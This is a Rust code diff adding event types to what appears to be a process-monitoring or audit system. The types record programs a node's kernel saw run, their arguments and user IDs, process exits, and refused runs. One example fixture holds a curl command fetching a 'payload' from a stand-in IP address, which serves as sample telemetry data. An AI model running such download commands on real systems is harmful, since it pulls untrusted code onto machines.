@@ -1,5 +1,6 @@
-//! Commands that the proxy was asked to run. What the kernel saw running is another fact, told by a node.
+//! Commands: what the proxy was asked to run, and what a node's kernel saw running. Two facts, never counted as one.
 
+use super::process::{Executable, Process, is_false};
 use crate::event::ByteString;
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
@@ -135,5 +136,137 @@ pub struct Failed {
 impl Failed {
     pub(super) fn example() -> Self {
         Self { channel: 0, reason: "the target refused the request".into() }
+    }
+}
+
+/// A program ran on a node: what its kernel saw, whatever the session had typed.
+#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
+pub struct Executed {
+    /// Its arguments, the first is what it is called by; at most [`COMMAND_BYTES_MAX`] bytes of them.
+    pub arguments: Vec<ByteString>,
+    /// How many bytes all arguments have, each with the zero byte that ends it.
+    pub arguments_bytes: u64,
+    /// How many arguments there are, where that is known.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub arguments_count: Option<u64>,
+    /// `arguments` aren't all of them, or the last one isn't whole.
+    #[serde(skip_serializing_if = "is_false", default)]
+    pub arguments_cut: bool,
+    /// The kernel couldn't read them.
+    #[serde(skip_serializing_if = "is_false", default)]
+    pub arguments_unreadable: bool,
+    /// The control group, by its number in the kernel, decimal.
+    pub cgroup: String,
+    /// The working directory.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub directory: Option<ByteString>,
+    /// What runs: of a script, its interpreter.
+    pub executable: Executable,
+    /// What was asked to be run, as it was written; of a script, the script.
+    pub given: ByteString,
+    /// The interpreter that a script names.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub interpreter: Option<ByteString>,
+    /// Its paths are those of another root than the node's.
+    #[serde(skip_serializing_if = "is_false", default)]
+    pub other_root: bool,
+    /// The process.
+    pub process: Process,
+    /// Its terminal, e.g. `pts/3`.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub terminal: Option<String>,
+    /// In whose name.
+    pub users: Users,
+}
+
+/// In whose name a process acts (credentials(7)).
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+pub struct Users {
+    /// The effective group.
+    pub egid: u32,
+    /// The effective user.
+    pub euid: u32,
+    /// The real group.
+    pub gid: u32,
+    /// The user who logged in, as the kernel's audit remembers.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub login_uid: Option<u32>,
+    /// The real user.
+    pub uid: u32,
+}
+
+impl Executed {
+    pub(super) fn example() -> Self {
+        Self {
+            arguments: vec!["curl".into(), "-s".into(), "https://192.0.2.80/payload".into()],
+            arguments_bytes: 35,
+            arguments_count: Some(3),
+            arguments_cut: false,
+            arguments_unreadable: false,
+            cgroup: "4242".into(),
+            directory: Some("/home/deploy".into()),
+            executable: Executable::example(),
+            given: "/usr/bin/curl".into(),
+            interpreter: None,
+            other_root: false,
+            process: Process::example(),
+            terminal: Some("pts/3".into()),
+            users: Users { egid: 1000, euid: 1000, gid: 1000, login_uid: Some(1000), uid: 1000 },
+        }
+    }
+}
+
+/// A process ended on a node.
+#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
+pub struct Exited {
+    /// Whether its memory was written to a file.
+    #[serde(skip_serializing_if = "is_false", default)]
+    pub core_dumped: bool,
+    /// How long it lived, in microseconds.
+    pub duration_us: u64,
+    /// Its exit status, where it ended by itself.
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub exit_status: Option<u32>,
+    /// The process.
+    pub process: Process,
+    /// The number of the signal that ended it (signal(7)).
+    #[serde(skip_serializing_if = "Option::is_none", default)]
+    pub signal: Option<u32>,
+}
+
+impl Exited {
+    pub(super) fn example() -> Self {
+        Self {
+            core_dumped: false,
+            duration_us: 118_203,
+            exit_status: Some(0),
+            process: Process::example(),
+            signal: None,
+        }
+    }
+}
+
+/// Why a node's kernel ran no program.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+#[serde(rename_all = "kebab-case")]
+pub enum Denial {
+    /// There was no room for its event, or nobody who takes it: no evidence, no effect.
+    NoEvidence,
+}
+
+/// A program wasn't run: the node's kernel refused it.
+#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
+pub struct Denied {
+    /// What was asked to be run, as it was written.
+    pub given: ByteString,
+    /// The process that asked.
+    pub process: Process,
+    /// Why.
+    pub reason: Denial,
+}
+
+impl Denied {
+    pub(super) fn example() -> Self {
+        Self { given: "/usr/bin/curl".into(), process: Process::example(), reason: Denial::NoEvidence }
     }
 }
